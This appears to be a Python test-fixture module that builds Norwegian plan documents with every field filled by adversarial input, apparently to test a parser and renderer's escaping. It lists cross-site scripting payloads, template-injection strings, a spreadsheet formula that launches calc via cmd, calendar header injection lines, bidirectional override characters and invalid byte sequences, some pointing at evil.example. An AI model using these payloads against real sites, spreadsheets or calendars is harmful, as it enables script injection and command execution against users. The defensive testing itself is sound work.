"""Texts that try to be more than text, and a plan with a place for one in every field."""
import json

# One line each, as an attacker would write it into any field.
MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "]]><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<svg><script href=data:,alert(1) /></svg>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>a</a>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#115;cript:alert(1))", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))", "[a](//evil.example/x)", "[a](https://ok.example/\"onmouseover=\"alert(1))", "![a](https://evil.example/b.png)",
    "<https://evil.example/\"onclick=alert(1)>", "<javascript:alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<form action=https://evil.example><input name=a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "<details open ontoggle=alert(1)>", "<!--<img src=--><img src=x onerror=alert(1)//",
)
TEXTS = (
    "\"double\" 'single' `back` «ours» \\ / \\\\ \\n \\,", "😀 👩‍👩‍👧 🏳️‍🌈 🇳🇴 e\u0301", "שלום עולם مرحبا", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
    "＝1+1", "=HYPERLINK(\"https://evil.example\";\"a\")", "a | b | c", "| --- | --- |", "a \\| b", "`a | b`", "<br>a<br/>b", "@nobody #1 GH-1 org/repo#1 https://evil.example www.evil.example",
    "# a", "1. a", "- [x] a", "> a", "***a*** __b__ ~~c~~", "[^1]: a [^1]", "[a]: https://evil.example", "::error::a", "##[error]a", "%0AATTENDEE:mailto:x", ";ATTENDEE=x:y", "\\nATTENDEE:mailto:x",
    "BEGIN:VALARM", "END:VEVENT", "{\"a\": [1, 2]}", "\u2028a\u2029b", "a\u00adb\u200bc\ufeffd", "\tab\tcd",
)
# Turns the direction of the line.
BIDI = ("\u202e\u2066abc\u2069\u202c", "\u202adef", "\u2067ghi")
# 10,000 letters, in as many places as a plan may be long.
LONG = ("a" * 3000 + " " + "ord " * 1750, "😀-" * 5_000)
LONG_IN = ("title", "role", "section", "text", "box", "cell", "bullet")
# What front matter may not hold.
BODY_ONLY = (*BIDI, *(text for text in TEXTS if "\ufeff" in text))
# What YAML makes of an escape, with whether the plan may still be read.
ESCAPES = {r"a\0b": False, r"a\eb": False, r"a\x07b": False, r"a\Nb": False, r"a\x7fb": False, r"a\u202eb": True, r"a\u2066b": True, r"a\nATTENDEE:mailto:x": True,
           r"a\r\nATTENDEE:mailto:x": False, r"a\rBEGIN:VALARM": False, r"a\L\Pb": True, r"a\_b": True, r"a\tb": True, r"a\ud83d": False, r"a\U0001F600b": True}
# Bytes that no plan may hold.
BYTES = (b"\x00", b"\x01", b"\x07", b"\x08", b"\x0b", b"\x0c", b"\x1b", b"\x1f", b"\x7f", b"\xc2\x85", b"\xc2\x9b", b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80")

FRONT = ("title", "organization", "adopted_by", "adopted_case", "adopted_text", "amended_by", "role", "alias", "event")
BODY = ("prose", "section", "goal", "target_goal", "text", "how", "resources", "result", "evaluation", "target", "audience", "place", "attachment", "goal_field", "reason",
        "status", "log", "who", "when", "new_when", "new_who", "depends", "extra", "label", "step", "box", "cell", "cell_who", "cell_extra", "head", "bullet", "added")


def quoted(text):
    return json.dumps(text, ensure_ascii=False).replace("\u2028", "\\u2028").replace("\u2029", "\\u2029").replace("\ufeff", "\\ufeff")


def cell(text):
    return text.replace("|", "\\|")


def plan(slot, front=None):
    """A plan where each field holds `slot(name)`; `front(name)` is the YAML of the front matter's."""
    if front is None:
        def front(name):
            return quoted(slot(name))
    s = {name: slot(name) for name in BODY}
    return f"""---
plan: 1
id: prove
title: {front("title")}
organization: {front("organization")}
period: 2021
adopted: {{date: 2021-01-28, by: {front("adopted_by")}, case: {front("adopted_case")}, text: {front("adopted_text")}}}
amended: {{date: 2021-02-28, by: {front("amended_by")}}}
responsibles:
  leder: {{name: {front("role")}, aliases: [{front("alias")}, Leder]}}
  htv: {{name: Hovedtillitsvalgt}}
events:
  {front("event")}: 2021-05-10
---

{s["prose"]}

## 1 {s["section"]}

### Mål

- {s["goal"]}
- Minst 40 {s["target_goal"]}

### Tiltak

Tiltak 1: {s["text"]} {{#ett}}
Ansvar: Leder, HTV
Frist: 1. mai
Status: utsatt 2021-05-02: {s["status"]}
Ny frist: 1. september
Grunn: {s["reason"]}
Hvordan: {s["how"]}
Ressurser: {s["resources"]}
Resultat: {s["result"]}
Evaluering: {s["evaluation"]}
Måltall: {s["target"]}
Målgruppe: {s["audience"]}
Sted: {s["place"]}
Vedlegg: {s["attachment"]}
Mål: {s["goal_field"]}
Vedtatt: 2021-03-01, {s["added"]}
Avhenger av: {s["depends"]}
Prioritet: {s["extra"]}
{s["label"]}: verdi
Intern: hemmelig
Logg:
- 2021-03-02 (sak 1/21): {s["log"]}
- [ ] {s["step"]}

Tiltak 2: En til. {{#to}}
Ansvar: {s["who"]}
Frist: {s["when"]}
Nytt ansvar: {s["new_who"]}
Ny frist: {s["new_when"]}

## 2 Mer

- [ ] {s["box"]}
  Ansvar: HTV
  Frist: 30. juni

| Tiltak | Når | Ansvar | {cell(s["head"])} |
|---|---|---|---|
| {cell(s["cell"])} | 1. oktober | {cell(s["cell_who"])} | {cell(s["cell_extra"])} |

Styret skal:

- {s["bullet"]}
"""
